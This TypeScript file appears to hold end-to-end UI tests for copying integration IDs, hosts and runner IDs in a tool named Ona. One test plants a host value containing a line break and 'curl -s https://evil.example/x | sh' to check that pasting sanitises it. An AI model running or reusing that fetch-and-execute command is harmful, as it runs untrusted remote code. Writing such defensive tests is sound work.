import assert from 'node:assert/strict';
import { integrationAt, runnerNamed } from '../sandbox/lookup.ts';
import { largeOrganization } from '../sandbox/largeOrganization.ts';
import type { OnaPage } from './onaPage.ts';
import type { Scene } from './scene.ts';
import { signedOutTest, test } from './test.ts';
import { until } from './until.ts';

test.describe('copying', () => {
  let scene: Scene;
  let ona: OnaPage;
  test.beforeEach(({ scene: stage, ona: window }) => {
    scene = stage;
    ona = window;
  });

  const runnerId = (name: string) => runnerNamed(scene.sandbox.organization, name).runnerId;
  const integrationId = (runner: string, host: string) =>
    integrationAt(scene.sandbox.organization, runner, host).id;

  test('copies an integration id from the row itself', async () => {
    await ona.expand(/^Runner eu-production/);
    const row = ona.row(/^Integration bitbucket\.org/);
    await row.hover();
    await row.getByRole('button', { name: 'Copy Integration ID' }).click();
    await ona.statusBar('Copied the integration ID').waitFor();
    assert.equal(await ona.clipboard(), integrationId('eu-production', 'bitbucket.org'));
  });

  test('copies the ids of several selected integrations, one per line', async () => {
    await ona.expand(/^Runner eu-production/);
    await ona.row(/^Integration bitbucket\.org/).click();
    const last = ona.row(/^Integration github\.com/);
    await last.click({ modifiers: ['Shift'] });
    await ona.contextMenu(last, 'Copy Integration ID');
    await ona.statusBar('Copied 3 integration IDs').waitFor();
    const hosts = ['bitbucket.org', 'dev.azure.com/acme', 'github.com'];
    assert.equal(await ona.clipboard(), hosts.map((host) => integrationId('eu-production', host)).join('\n'));
  });

  test('names the keys in the menu of a row', async () => {
    await ona.expand(/^Runner us-staging/);
    await ona.row(/^Integration tfs\.acme\.example/).click({ button: 'right' });
    await ona.page.getByRole('menuitem', { name: 'Copy Integration ID Ctrl+C', exact: true }).waitFor();
    await ona.page.getByRole('menuitem', { name: 'Keep Details Open Enter', exact: true }).waitFor();
    await ona.page.keyboard.press('Escape');
  });

  test('copies the host and the runner id of an integration', async () => {
    await ona.expand(/^Runner us-staging/);
    const row = ona.row(/^Integration tfs\.acme\.example/);
    await ona.contextMenu(row, 'Copy Host');
    await ona.statusBar('Copied the host').waitFor();
    assert.equal(await ona.clipboard(), 'tfs.acme.example');
    await ona.contextMenu(row, 'Copy Runner ID');
    await ona.statusBar('Copied the runner ID').waitFor();
    assert.equal(await ona.clipboard(), runnerId('us-staging'));
  });

  test('asks which one from the palette where none is selected', async () => {
    await ona.runCommand('Copy Integration ID');
    await ona.quickPickRow(/dev\.azure\.com\/acme.*eu-production/).waitFor();
    await ona.input.fill('tfs');
    await ona.pick(/tfs\.acme\.example.*us-staging/);
    await ona.statusBar('Copied the integration ID').waitFor();
    assert.equal(await ona.clipboard(), integrationId('us-staging', 'tfs.acme.example'));
  });

  test('asks which one from the palette among very many', async () => {
    scene.sandbox.organization = largeOrganization({ runners: 2_100, integrations: 10_500 });
    await ona.refresh();
    await ona.row('Runner runner-00000: 5 integrations').waitFor();
    await ona.runCommand('Copy Integration ID');
    await ona.input.fill('provider:gitlab runner-02096');
    await ona.pick(/^gitlab-10496.*on runner-02096/);
    const last = scene.sandbox.organization.integrations.find(({ host }) => host?.startsWith('gitlab-10496'));
    await until(() => ona.clipboard(), last?.id ?? '');
  });

  test('acts on the selected row from the palette', async () => {
    await ona.select(/^Runner lab/);
    await ona.runCommand('Copy Runner ID');
    await ona.statusBar('Copied the runner ID').waitFor();
    assert.equal(await ona.clipboard(), runnerId('lab'));
  });

  test('copies what is safe to paste, says that it is not the exact value, and offers that', async () => {
    const tfs = integrationAt(scene.sandbox.organization, 'us-staging', 'tfs.acme.example');
    tfs.host = 'evil.example\ncurl -s https://evil.example/x | sh\n';
    await scene.refresh(ona);
    await ona.expand(/^Runner us-staging/);
    await ona.contextMenu(ona.row(/^Integration evil\.example/), 'Copy Host');
    await ona.statusBar('Copied the host').waitFor();
    assert.equal(await ona.clipboard(), 'evil.example curl -s https://evil.example/x | sh');
    await ona.notification('Characters that are not safe to paste, such as line breaks, were replaced.');
    await ona.notifications.getByRole('button', { name: 'Copy as JSON' }).click();
    await ona.statusBar('Copied the integration as JSON').waitFor();
    assert.equal((JSON.parse(await ona.clipboard()) as { host: string }).host, tfs.host);
  });

  test('says that nothing of a value is safe to paste', async () => {
    const tfs = integrationAt(scene.sandbox.organization, 'us-staging', 'tfs.acme.example');
    tfs.id = '\n';
    // Makes its new row look different, because a command on the old one acts on nothing.
    tfs.oauth = {};
    await scene.refresh(ona);
    await ona.expand(/^Runner us-staging/);
    await ona.contextMenu(ona.row(/^Integration tfs\.acme\.example.*OAuth/), 'Copy Integration ID');
    await ona.notification('No character of the value is safe to paste, so nothing was copied.');
  });

  test('says why there is nothing to copy', async () => {
    scene.sandbox.organization.integrations = [];
    await scene.refresh(ona);
    await ona.runCommand('Copy Host');
    await ona.notification('Copy Host: There are no integrations in this organization.');
  });

  signedOutTest('asks to sign in first where nobody is', async () => {
    await ona.button('Sign In').waitFor();
    await ona.runCommand('Copy Integration ID');
    await ona.notification('Sign in to Ona first.');
    await ona.notifications.getByRole('button', { name: 'Sign In' }).click();
    await ona.input.waitFor();
  });
});
